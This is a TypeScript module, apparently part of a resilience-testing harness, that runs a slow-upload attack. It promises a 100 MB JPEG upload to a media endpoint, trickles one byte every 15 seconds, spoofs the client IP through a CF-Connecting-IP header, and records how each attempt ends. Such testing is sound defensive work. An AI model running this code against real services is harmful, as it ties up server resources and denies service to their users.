/** Uploads that promise 100 MB and send a byte now and then. */
import { request } from "node:http";
import type { Scene } from "./scene.ts";

const PROMISED_BYTES = 100_000_000;
const BYTE_EVERY_MS = 15_000;
const WHAT = "a byte per 15 s of 100 MB";

/** Sends one such upload. Resolves once it is answered or cut off, or when the attack ends. */
export function trickle({ space, address, outcomes, until }: Scene): Promise<void> {
  return new Promise((resolve) => {
    const headers = {
      Authorization: `Bearer ${space.key}`,
      "CF-Connecting-IP": address,
      "Content-Type": "image/jpeg",
      "Content-Length": PROMISED_BYTES,
    };
    const began = performance.now();
    const sending = request(`${space.api}/media`, { method: "POST", headers, signal: until });
    const timer = setInterval(() => sending.write(Uint8Array.of(0)), BYTE_EVERY_MS);
    const end = (outcome: string): void => {
      clearInterval(timer);
      outcomes.add(WHAT, until.aborted ? "held until the end" : outcome, performance.now() - began);
      sending.destroy();
      resolve();
    };
    sending.on("response", (response) => {
      response.resume();
      end(String(response.statusCode));
    });
    sending.on("error", () => end("cut off"));
    // The beginning of a JPEG, so that its kind is known and its place taken.
    sending.write(Uint8Array.of(0xff, 0xd8, 0xff, 0xe0));
  });
}
